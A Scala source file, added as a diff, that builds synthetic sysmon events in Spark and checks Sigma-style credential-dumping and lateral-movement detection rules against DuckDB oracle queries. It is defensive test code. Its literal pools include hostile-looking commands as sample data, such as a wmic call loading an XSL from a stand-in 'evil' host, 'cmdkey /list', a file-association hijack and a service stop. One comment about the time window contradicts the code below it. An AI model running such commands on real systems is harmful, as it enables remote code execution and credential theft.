@@ -1,0 +1,294 @@
+package graft.ops
+
+import org.apache.spark.sql.{Column, DataFrame, SparkSession}
+import org.apache.spark.sql.functions._
+
+import graft.compile.Pred
+import graft.engine.{AlertPipeline, Tables}
+import graft.rules.{ReferenceCorpus, RuleDef}
+
+/** Oracle-checked coverage for the detection-rule workload — the core
+  * capability of the reference (the SQL files under /root/reference/rules/sigma/).
+  *
+  * The driver's test tables have no sysmon data, so we derive a
+  * deterministic sysmon-shaped table from `events`: every rule-relevant
+  * field is drawn from a fixed literal pool indexed by `(event_id + off) %
+  * size`. Pool sizes are pairwise coprime (4,5,7,9,11,13,17,19,23,25,3…),
+  * so by CRT every combination of field values that a rule needs co-occurs
+  * on some rows — each rule both fires and near-misses. The SAME derivation
+  * is rendered as DuckDB SQL (from the same literal pools — they cannot
+  * drift) and each rule's WHERE renders through [[Pred.toDuckDb]], giving
+  * every corpus rule a full hash-checked oracle.
+  *
+  * Scale: the synth projection and all rule predicates are stateless
+  * narrow transforms — one codegen'd stage over the scan, no shuffle, no
+  * driver collection; the rule fan-out costs CPU-per-row only (SURVEY §4).
+  */
+object Detection {
+
+  final case class Pool(field: String, off: Int, values: Seq[String]) {
+    def size: Int = values.size
+    /** Spark side: element_at over a literal array, 1-based. */
+    def column: Column =
+      element_at(array(values.map(lit): _*),
+        ((col("event_id") + off) % size + 1).cast("int"))
+    /** DuckDB side: list_extract over the same literals, 1-based. */
+    def duckExpr: String =
+      s"list_extract([${values.map(Pred.sq).mkString(", ")}], " +
+        s"CAST((event_id + $off) % $size AS BIGINT) + 1) AS \"$field\""
+  }
+
+  // Pairwise-coprime pool sizes; values chosen so every corpus rule has
+  // matching rows AND near-miss rows (e.g. the uppercase 0x1F3FFF is NOT in
+  // credDumpToolsLsass's lowercase IN-list). Backslash counts are
+  // deliberate: doubled-backslash entries match the corpus's
+  // doubled-backslash LIKE patterns (lazagne) and the quadrupled-backslash
+  // SIMILAR TO regexes (cobaltStrikeBof), single-backslash entries match the
+  // single-backslash patterns (pypykatz) — the corpus's own inconsistency.
+  val pools: Seq[Pool] = Seq(
+    Pool("TargetImage", 1, Seq(
+      """C:\Windows\System32\lsass.exe""",
+      """C:\WINDOWS\System32\svchost.exe""",
+      """C:\Windows\System32\verclsid.exe""",
+      """C:\Windows\System32\winlogon.exe""",
+      """C:\Program Files\app\app.exe""")),
+    Pool("GrantedAccess", 3, Seq(
+      "0x1FFFFF", "0x1fffff", "0x143a", "0x1F3FFF", "0x1410", "0x40", "0x1028")),
+    Pool("SourceImage", 2, Seq(
+      """C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE""",
+      """C:\Program Files\Microsoft Office\winword.exe""",
+      """C:\Windows\System32\rundll32.exe""",
+      """C:\Windows\system32\wsmprovhost.exe""",
+      """C:\Windows\SysWOW64\explorer.exe""",
+      """C:\Python27\python.exe""",
+      """C:\Windows\System32\taskmgr.exe""",
+      """C:\Windows\System32\services.exe""",
+      """C:\Users\admin\tool.exe""")),
+    Pool("Image", 4, Seq(
+      """C:\Windows\System32\svchost.exe""",
+      """C:\Windows\System32\xwizard.exe""",
+      """C:\Temp\xwizard.exe""",
+      """C:\Windows\System32\cmdkey.exe""",
+      """C:\Windows\System32\wbem\wmic.exe""",
+      "hxtsr.exe",
+      """C:\Program Files\WinRAR\rar.exe""",
+      """C:\Windows\System32\cmd.exe""",
+      """C:\Windows\explorer.exe""",
+      """C:\Windows\System32\svchost.exe""",
+      """C:\Windows\System32\notepad.exe""")),
+    Pool("CallTrace", 0, Seq(
+      """C:\WINDOWS\SYSTEM32\ntdll.dll+4f42|C:\WINDOWS\System32\KERNELBASE.dll+1f2e|UNKNOWN(00000000)""",
+      """C:\\Windows\\SYSTEM32\\ntdll.dll+a1|C:\\Windows\\System32\\KERNELBASE.dll+b2|_ctypes.pyd+c3|python27.dll+d4""",
+      """UNKNOWN(0000000000000000)|UNKNOWN(0000000000000000)|C:\Windows\SYSTEM32\wow64log.dll""",
+      """C:\Windows\SYSTEM32\ntdll.dll+9d2|C:\Windows\System32\KERNELBASE.dll+3c44|libffi-7.dll+82|_ctypes.pyd+112|python3*.dll+1a2""",
+      "dbghelp.dll",
+      """C:\Windows\System32\comsvcs.dll+5f1|UNKNOWN(000000)""",
+      """C:\Windows\Microsoft.NET\Framework64\v2.0.50727\clr.dll+1234|UNKNOWN(0A0A)""",
+      """C:\Windows\System32\cmlua.dll+99""",
+      """C:\Windows\System32\editionupgrademanagerobj.dll+11""",
+      // exact shape cobaltStrikeBof's anchored regex demands: doubled path
+      // separators but `\.dll` (regex `\\.` = backslash + any char) at the
+      // module names — the corpus regex's own quirk
+      """C:\\Windows\\SYSTEM32\\ntdll\.dll+c1f2|C:\\Windows\\System32\\KERNELBASE\.dll+9e88|UNKNOWN(AB12CD34EF567890)""",
+      "UNKNOWN(00F1)|UNKNOWN(00F2)",
+      """C:\Program Files\Microsoft Office\VBE7.DLL+88|UNKNOWN(123)""",
+      "dbgcore.dll")),
+    Pool("CommandLine", 5, Seq(
+      """C:\Windows\System32\svchost.exe""",
+      """C:\Windows\System32\svchost.exe -k netsvcs""",
+      "{abcdef12-3456-7890-abcd-ef1234567890}",
+      "powershell -c CL_Invocation.ps1 SyncInvoke foo",
+      "powershell -c CL_Mutexverifiers.ps1 runAfterCancelProcess x",
+      "cmdkey /list",
+      """wmic os get /format:"http://evil/x.xsl"""",
+      "cmd /c assoc .txt=evil",
+      "rar a archive.rar docs",
+      "shutdown /r /f /t 00",
+      "net stop SuperBackupMan",
+      """C:\Windows\explorer.exe""",
+      """notepad.exe C:\doc.txt""",
+      "cmd /c dir",
+      "powershell -NoProfile",
+      "wmic process list",
+      "xwizard.exe {abcdef12-3456-7890-abcd-ef1234567890}")),
+    Pool("ParentCommandLine", 6, Seq(
+      "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
+      "DllHost.exe /Processid:{AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE}",
+      "explorer.exe",
+      "services.exe",
+      "DllHost.exe /Processid:{BD54C901-076B-434E-B6C7-17C531F4AB41} go",
+      "cmd.exe /c start",
+      "DllHost.exe /Processid:{E9495B87-D950-4AB5-87A5-FF6D70BF3E90}",
+      "winlogon.exe", "userinit.exe",
+      """C:\Windows\System32\spoolsv.exe""",
+      "svchost.exe -k", "msiexec /i x.msi", "explorer.exe", "services.exe",
+      "cmd.exe", "powershell.exe", "taskeng.exe", "wininit.exe", "smss.exe")),
+    Pool("ParentImage", 7, Seq(
+      """C:\Windows\System32\services.exe""",
+      """C:\Windows\System32\DllHost.exe""",
+      """C:\Windows\System32\msbuild.exe""",
+      """C:\Users\bob\cmd.exe""",
+      "null",
+      """C:\Windows\System32\winword.exe""",
+      """C:\Windows\System32\wininit.exe""",
+      """C:\Windows\System32\MsMpEng.exe""",
+      """C:\Windows\System32\rpcnet.exe""",
+      """C:\Windows\explorer.exe""",
+      """C:\Windows\System32\svchost.exe""",
+      """C:\Windows\System32\spoolsv.exe""",
+      """C:\Windows\System32\taskeng.exe""",
+      """C:\Windows\System32\DllHost.exe""",
+      """C:\Windows\System32\msbuild.exe""",
+      """C:\Windows\explorer.exe""",
+      """C:\Windows\System32\services.exe""",
+      """C:\Temp\DllHost.exe""",
+      """C:\Windows\System32\smss.exe""",
+      """C:\Windows\System32\lsm.exe""",
+      """C:\Windows\System32\csrss.exe""",
+      """C:\Windows\System32\conhost.exe""",
+      """C:\Windows\System32\sihost.exe""")),
+    Pool("IntegrityLevel", 8,
+      Seq.fill(5)(Seq("High", "System", "Medium", "Low", "Medium")).flatten),
+    Pool("Initiated", 1, Seq("true", "false", "true")),
+    Pool("DestinationPort", 2, Seq("80", "443", "8080", "53", "443")),
+    Pool("Imphash", 0, Seq(
+      "1B1A3F43BF37B5BFE60751F2EE2F326E",
+      "37777A96245A3C74EB217308F3546F4C",
+      "00000000000000000000000000000000")),
+    Pool("CurrentDirectory", 1, Seq(
+      """C:\\Program Files\\WindowsApps\\microsoft.windowscommunicationsapps_17.7466.41167.0_x64__8wekyb3d8bbwe\\hxtsr.exe""",
+      """C:\Users\victim\Downloads""",
+      """C:\Windows\Temp""")))
+
+  /** Sysmon event_id stream: 10 (process_access) / 1 (creation) / 3 (network). */
+  private val eventIdPool = Seq(10L, 1L, 3L, 10L)
+
+  /** Spark-side synthesized flat sysmon table. Columns: eid, computer_name,
+    * host, uuid, ts, event_id, + one column per pooled field. */
+  def synth(spark: SparkSession, dir: String): DataFrame = {
+    val ev = Tables(spark, dir, "events")
+    val base = Seq(
+      col("event_id").as("eid"),
+      concat(lit("host-"), (col("event_id") % 50).cast("string")).as("computer_name"),
+      concat(lit("h"), (col("event_id") % 20).cast("string")).as("host"),
+      concat(lit("uuid-"), col("event_id").cast("string")).as("uuid"),
+      col("ts"),
+      element_at(array(eventIdPool.map(lit): _*),
+        (col("event_id") % 4 + 1).cast("int")).as("sysmon_event_id"))
+    ev.select(base ++ pools.map(p => p.column.as(p.field)): _*)
+      .withColumnRenamed("sysmon_event_id", "event_id")
+  }
+
+  /** The identical derivation as DuckDB SQL (generated from the same pools). */
+  def synthSql: String = {
+    val base = Seq(
+      "event_id AS eid",
+      "'host-' || CAST(event_id % 50 AS VARCHAR) AS computer_name",
+      "'h' || CAST(event_id % 20 AS VARCHAR) AS host",
+      "'uuid-' || CAST(event_id AS VARCHAR) AS uuid",
+      "ts",
+      s"list_extract([${eventIdPool.mkString(", ")}], CAST(event_id % 4 AS BIGINT) + 1) AS event_id")
+    s"SELECT ${(base ++ pools.map(_.duckExpr)).mkString(", ")} FROM events"
+  }
+
+  private def duckField(f: String): String = "\"" + f + "\""
+
+  /** Short stable key per rule for query naming. */
+  def key(r: RuleDef): String =
+    "sig_" + r.name.toLowerCase.replaceAll("[^a-z0-9]+", "_").replaceAll("_+$", "")
+      .split('_').take(4).mkString("_")
+
+  /** Nested sysmon frame (real event_data struct) for the pipeline query. */
+  def nested(spark: SparkSession, dir: String): DataFrame = {
+    val flat = synth(spark, dir)
+    val fields = graft.schema.Schemas.eventDataFields.map { f =>
+      (if (pools.exists(_.field == f)) col(f) else lit(null).cast("string")).as(f)
+    }
+    flat.select(col("computer_name"), col("event_id"), col("host"),
+      struct(fields: _*).as("event_data"), col("uuid"),
+      col("ts").as("timestamp"), col("eid"))
+  }
+
+  /** Per-rule queries: matched eids, oracle-checked. */
+  val queries: Map[String, (SparkSession, String) => DataFrame] = {
+    val perRule = ReferenceCorpus.allRules.map { r =>
+      key(r) -> ((s: SparkSession, dir: String) =>
+        synth(s, dir).filter(r.where.toColumn(col)).select(col("eid")).orderBy("eid"))
+    }.toMap
+
+    perRule ++ Map(
+      // Full pipeline fan-out: N×(filter→project) → UNION ALL over the
+      // nested schema, then alert counts per rule (only firing rules).
+      "sig_fanout_counts" -> ((s: SparkSession, dir: String) => {
+        val alerts = AlertPipeline.alerts(nested(s, dir), ReferenceCorpus.active)
+        alerts.groupBy(col("rule.name").as("rule_name"))
+          .agg(count(lit(1)).as("n"))
+          .orderBy("rule_name")
+      }),
+      // Sigma timeframe extension (SURVEY §2.4): tumbling 5-minute
+      // windowed count >= 3 per computer over the directSyscall predicate,
+      // alert carries count + all origin uuids + window bounds.
+      "tf_windowed_count" -> ((s: SparkSession, dir: String) => {
+        import graft.streaming.TimeframeRules
+        val rule = TimeframeRules.TimeframeRule(
+          ReferenceCorpus.directSyscall, "24 hours", 2L, "computer_name")
+        TimeframeRules.alerts(nested(s, dir), rule)
+          .select(
+            col("computer_name"), col("host"),
+            col("event.count").as("n"),
+            unix_micros(col("event.start")).as("start_us"),
+            to_json(col("event.origin_ids")).as("origins"))
+          .orderBy("start_us", "computer_name")
+      }),
+      // Alert shaping: scalar extraction from the event/threat/rule structs
+      // for one rule (LaZagne), proving struct construction semantics.
+      "sig_alert_shape" -> ((s: SparkSession, dir: String) => {
+        val src = nested(s, dir)
+        AlertPipeline.ruleAlerts(src.withColumn("__eid", col("eid")), ReferenceCorpus.lazagne)
+          .select(
+            col("computer_name"), col("host"),
+            col("event.kind").as("kind"), col("event.module").as("module"),
+            element_at(col("event.origin_ids"), 1).as("origin_id"),
+            col("event.count").as("cnt"),
+            unix_micros(col("event.time")).as("time_us"),
+            to_json(col("threat")).as("threat"),
+            col("rule.name").as("rule_name"), col("rule.severity").as("severity"))
+          .orderBy("origin_id")
+      }))
+  }
+
+  val oracles: Map[String, String] = {
+    val perRule = ReferenceCorpus.allRules.map { r =>
+      key(r) ->
+        s"""SELECT eid FROM ($synthSql) WHERE ${r.where.toDuckDb(duckField)} ORDER BY eid"""
+    }.toMap
+
+    val fanout = ReferenceCorpus.active.map { r =>
+      s"""SELECT ${Pred.sq(r.name)} AS rule_name, count(*) AS n FROM ($synthSql)
+          WHERE ${r.where.toDuckDb(duckField)} HAVING count(*) > 0"""
+    }.mkString("SELECT rule_name, n FROM (", " UNION ALL ", ") ORDER BY rule_name")
+
+    val laz = ReferenceCorpus.lazagne
+    val shape =
+      s"""SELECT computer_name, host, 'signal' AS kind, 'process_access' AS module,
+            uuid AS origin_id, CAST(1 AS BIGINT) AS cnt, epoch_us(ts) AS time_us,
+            to_json({'tactic': ['attack.credential_access'], 'technique': ['t1003'],
+                     'subtechnique': ['attack.t1003.001']}) AS threat,
+            ${Pred.sq(laz.name)} AS rule_name, ${laz.severity} AS severity
+          FROM ($synthSql) WHERE ${laz.where.toDuckDb(duckField)} ORDER BY origin_id"""
+
+    val tf = {
+      val pred = ReferenceCorpus.directSyscall.where.toDuckDb(duckField)
+      s"""SELECT computer_name, min(host) AS host, count(*) AS n,
+            (epoch_us(ts) // 86400000000) * 86400000000 AS start_us,
+            to_json(list(uuid ORDER BY uuid)) AS origins
+          FROM ($synthSql) WHERE $pred
+          GROUP BY computer_name, (epoch_us(ts) // 86400000000) * 86400000000
+          HAVING count(*) >= 2
+          ORDER BY start_us, computer_name"""
+    }
+
+    perRule + ("sig_fanout_counts" -> fanout) + ("sig_alert_shape" -> shape) +
+      ("tf_windowed_count" -> tf)
+  }
+}
